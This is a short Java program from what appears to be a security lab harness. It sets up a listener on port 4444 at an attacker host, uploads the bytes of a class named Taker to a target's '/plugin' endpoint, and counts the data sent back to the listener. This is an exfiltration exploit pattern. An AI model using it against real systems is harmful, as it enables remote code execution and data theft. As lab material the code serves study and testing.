import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    try (ServerSocket server = new ServerSocket(4444, 1, InetAddress.getByName(Attacker.HOST))) {
      server.setSoTimeout(20_000);
      Thread sender =
          new Thread(
              () -> {
                try {
                  Attacker.post("/plugin", Attacker.classBytes(Taker.class));
                } catch (Exception e) {
                  e.printStackTrace(System.out);
                }
              });
      sender.start();
      try (Socket socket = server.accept()) {
        System.out.println(socket.getInputStream().readAllBytes().length + " bytes");
      }
      sender.join(10_000);
    }
    Attacker.done();
  }
}
